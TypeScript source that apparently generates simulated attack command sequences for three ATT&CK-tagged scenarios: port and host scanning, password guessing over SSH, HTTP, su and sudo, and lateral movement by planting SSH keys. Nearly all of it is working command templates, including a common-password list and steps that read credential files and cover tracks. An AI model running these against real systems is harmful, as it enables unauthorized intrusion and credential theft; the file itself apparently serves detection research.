import type { Attack } from '../scenario.ts';
import { look, maybe, quote, remote, root, workFile, workFolder, write } from '../ways.ts';

/** Who else is there, and on which ports. */
const scan: Attack = {
  name: 'neighbours-scanned',
  family: 'neighbours-scanned',
  techniques: ['T1046', 'T1018', 'T1016'],
  as: 'either',
  needs: ['nmap', 'nc', 'python3', 'ping', 'curl'],
  lines: (draw, place) => {
    const peers = draw.some(place.peers, draw.int(1, 4));
    const net = place.address.split('.').slice(0, 3).join('.');
    const ports = draw.some(
      [
        21,
        22,
        23,
        25,
        80,
        111,
        139,
        443,
        445,
        1433,
        2049,
        3306,
        3389,
        5432,
        5985,
        6379,
        8080,
        8443,
        9200,
        11211,
        27017,
        ...place.peerPorts,
      ],
      draw.int(6, 14),
    );
    const list = ports.join(',');
    const out = workFile(draw, place, '.txt');
    const script = workFile(draw, place, '.py');
    const ways = [
      `timeout 60 nmap -sT -Pn -n -p ${list} ${peers.join(' ')}`,
      `timeout 60 nmap -Pn -n -T4 --open -p ${list} ${peers[0]} -oN ${out}`,
      `timeout 50 nmap -n -sn ${net}.0/28`,
      `timeout 60 nmap -sV --version-light -Pn -p ${draw.pick(place.peerPorts)} ${peers[0]}`,
      `for h in ${peers.join(' ')}; do for p in ${draw.some(ports, 8).join(' ')}; do (timeout 1 bash -c "echo > /dev/tcp/$h/$p") 2>/dev/null && echo "$h:$p open"; done; done`,
      `for i in $(seq ${draw.int(1, 20)} ${draw.int(21, 45)}); do ping -c1 -W1 ${net}.$i > /dev/null 2>&1 && echo ${net}.$i & done; wait`,
      `for h in ${peers.join(' ')}; do for p in ${draw.some(ports, 5).join(' ')}; do nc -zv -w 1 $h $p 2>&1; done; done | grep succeeded`,
      `${write(draw, script, `import socket\nfor h in ${JSON.stringify(peers)}:\n  for p in ${JSON.stringify(ports)}:\n    s = socket.socket(); s.settimeout(0.4)\n    if s.connect_ex((h, p)) == 0: print(h, p)\n    s.close()`)}\ntimeout 60 python3 ${script}`,
    ];
    return [
      ...look(draw, draw.int(2, 3)),
      ...maybe(
        draw,
        0.6,
        ...draw.some(
          ['ip a', 'ip route', 'ip neigh', 'cat /etc/hosts', 'arp -an', 'ss -tn', 'cat ~/.ssh/known_hosts'],
          draw.int(1, 3),
        ),
      ),
      ...draw.some(ways, draw.int(1, 3)),
      ...maybe(
        draw,
        0.4,
        `curl -s -m 3 http://${remote(draw, place).host}:${draw.pick(place.peerPorts)}/ | head -5`,
      ),
      ...maybe(draw, 0.4, `rm -f ${out} ${script}`),
    ];
  },
};

/** Passwords are tried one after another: of an account here or of a door elsewhere. */
const guess: Attack = {
  name: 'passwords-tried',
  family: 'passwords-tried',
  techniques: ['T1110.001', 'T1110.003', 'T1021.004'],
  as: 'either',
  needs: ['sshpass', 'ssh', 'python3', 'su', 'curl', 'sshd', 'sudo', 'ssh-keygen'],
  lines: (draw, place) => {
    const words = workFile(draw, place, '.txt');
    const script = workFile(draw, place, '.py');
    const { host, port } = remote(draw, place);
    const user = draw.pick(place.users);
    const count = draw.int(5, 14);
    const list = draw.some(
      [
        '123456',
        'password',
        'admin',
        'root',
        'welcome1',
        'qwerty',
        'letmein',
        'changeme',
        'toor',
        'abc123',
        'P@ssw0rd',
        'test',
        `${user}1`,
        `${user}123`,
        'summer2025',
        'debian',
      ],
      count,
    );
    const local = draw.pick(place.ports);
    const options =
      '-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=3 -o NumberOfPasswordPrompts=1';
    const sshLocal = [
      root(place, `bash -c "mkdir -p /run/sshd; ssh-keygen -A > /dev/null; /usr/sbin/sshd -p ${local}"`),
      `while read -r w; do timeout 8 sshpass -p "$w" ssh ${options} -p ${local} ${user}@127.0.0.1 id < /dev/null 2>/dev/null && echo "$w"; done < <(head -${Math.min(count, 6)} ${words})`,
    ];
    const ways = [
      sshLocal,
      sshLocal,
      [
        `while read -r w; do timeout 4 sshpass -p "$w" ssh ${options} -p ${port} ${draw.pick(['root', 'admin', user])}@${host} id < /dev/null 2>&1 | tail -1; done < <(head -${Math.min(count, 5)} ${words})`,
      ],
      [
        `while read -r w; do curl -s -o /dev/null -w '%{http_code}\\n' -u ${draw.pick(['admin', user])}:$w http://${host}:${port}/${draw.word()}; done < ${words}`,
      ],
      [
        `while read -r w; do curl -s -d "user=${user}&password=$w" http://${host}:${port}/login.html -o /dev/null; done < ${words}`,
      ],
      [
        write(
          draw,
          script,
          `import os, pty, sys, time\nfor word in open("${words}").read().split()[:${draw.int(3, 6)}]:\n  pid, fd = pty.fork()\n  if pid == 0: os.execvp("su", ["su", "${draw.pick([user, 'root'])}", "-c", "id"])\n  time.sleep(0.4)\n  os.write(fd, (word + "\\n").encode())\n  try:\n    while os.read(fd, 1000): pass\n  except OSError: pass\n  print(word, os.waitpid(pid, 0)[1])`,
        ),
        `timeout 60 ${place.user === 'root' ? `su ${draw.pick(place.users)} -c 'python3 ${script}'` : `python3 ${script}`}`,
      ],
      [`for w in ${list.slice(0, 4).join(' ')}; do echo "$w" | timeout 5 sudo -S -k id 2>/dev/null; done`],
    ];
    return [
      ...look(draw, draw.int(1, 2)),
      ...maybe(
        draw,
        0.5,
        draw.pick(['cut -d: -f1 /etc/passwd | tail -5', 'ls /home', 'getent passwd | grep bash']),
      ),
      write(draw, words, list.join('\n')),
      ...(place.user === 'root' ? [`chmod 644 ${words}`] : []),
      ...draw.pick(ways),
      ...maybe(draw, 0.4, `rm -f ${words} ${script}`),
    ];
  },
};

/** From this machine to another by a key that was found. */
const onward: Attack = {
  name: 'onward-by-found-key',
  family: 'onward-by-found-key',
  techniques: ['T1021.004', 'T1552.004', 'T1570', 'T1563.001'],
  as: 'either',
  needs: ['ssh', 'sshd', 'ssh-keygen', 'scp', 'sudo'],
  lines: (draw, place) => {
    const folder = workFolder(draw, place);
    const key = `${folder}/${draw.pick(['k', 'id', draw.word()])}`;
    const port = draw.pick(place.ports);
    const { host, port: far } = remote(draw, place);
    const user = draw.pick(['root', ...place.users]);
    const home = user === 'root' ? '/root' : `/home/${user}`;
    const options = `-i ${key} -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -o ConnectTimeout=5`;
    const what = (): string =>
      draw.pick([
        'id; hostname',
        'cat /etc/passwd | head -3; ls -la',
        'uname -a; w',
        `mkdir -p /tmp/.${draw.word()}`,
        'cat ~/.bash_history | tail -5',
        `nohup sleep ${draw.int(20, 90)} > /dev/null 2>&1 &`,
      ]);
    const tool = `/tmp/${draw.word()}.sh`;
    return [
      ...maybe(
        draw,
        0.6,
        draw.pick([
          'cat ~/.ssh/known_hosts ~/.ssh/config 2>/dev/null',
          'ls -la /home/*/.ssh 2>/dev/null',
          'grep ssh ~/.bash_history',
        ]),
      ),
      `mkdir -p ${folder}`,
      ...maybe(draw, 0.5, `cp ~/.ssh/id_* ${folder}/ 2>/dev/null; chmod 600 ${folder}/*`),
      `ssh-keygen -q -t ed25519 -N '' -f ${key}`,
      root(
        place,
        `bash -c "mkdir -p ${home}/.ssh /run/sshd; cat ${key}.pub >> ${home}/.ssh/authorized_keys; chown -R ${user} ${home}/.ssh; chmod 700 ${home}/.ssh; chmod 600 ${home}/.ssh/authorized_keys; ssh-keygen -A > /dev/null; /usr/sbin/sshd -p ${port}"`,
      ),
      ...maybe(
        draw,
        0.4,
        write(draw, tool, `#!/bin/bash\n${what()}\nls /home`),
        `scp -P ${port} ${options} ${tool} ${user}@${draw.pick(['127.0.0.1', place.address])}:/var/tmp/ 2>/dev/null`,
      ),
      `timeout 30 ssh -p ${port} ${options} ${user}@${draw.pick(['127.0.0.1', place.address, 'localhost'])} ${quote(what())} 2>/dev/null`,
      ...maybe(
        draw,
        0.5,
        `timeout 30 ssh -p ${port} ${options} ${user}@127.0.0.1 ${quote(what())} 2>/dev/null`,
      ),
      ...maybe(
        draw,
        0.5,
        `for h in ${draw.some(place.peers, 3).join(' ')}; do timeout 4 ssh ${options} -p ${far} ${user}@$h id 2>&1 | tail -1; done`,
      ),
      ...maybe(draw, 0.3, `echo ${host} >> ${folder}/${draw.word()}`),
      ...maybe(draw, 0.4, `rm -rf ${folder}`),
      ...look(draw, draw.int(0, 1)),
    ];
  },
};

export const NEIGHBOURS: readonly Attack[] = [scan, guess, onward];
